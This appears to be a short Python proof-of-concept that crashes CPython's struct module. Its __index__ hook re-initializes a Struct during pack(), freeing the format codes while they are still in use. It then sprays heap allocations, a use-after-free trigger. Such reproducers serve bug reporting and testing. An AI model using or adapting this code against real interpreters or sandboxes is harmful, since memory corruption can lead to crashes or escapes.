# technique: struct.Struct.pack calls __index__ of an argument, which initializes the Struct anew: the format codes, with their function pointers, are freed under it
# goal: crash
# source: own analysis: s_pack_internal() in _struct.c
import struct


class Index:
    def __index__(self):
        global kept
        s.__init__('b')
        kept = [b'A' * n for n in range(40, 400) for i in range(4)]
        return 1


for i in range(100):
    s = struct.Struct('bhbhbh')
    s.pack(Index(), 1, 1, 1, 1, 1)
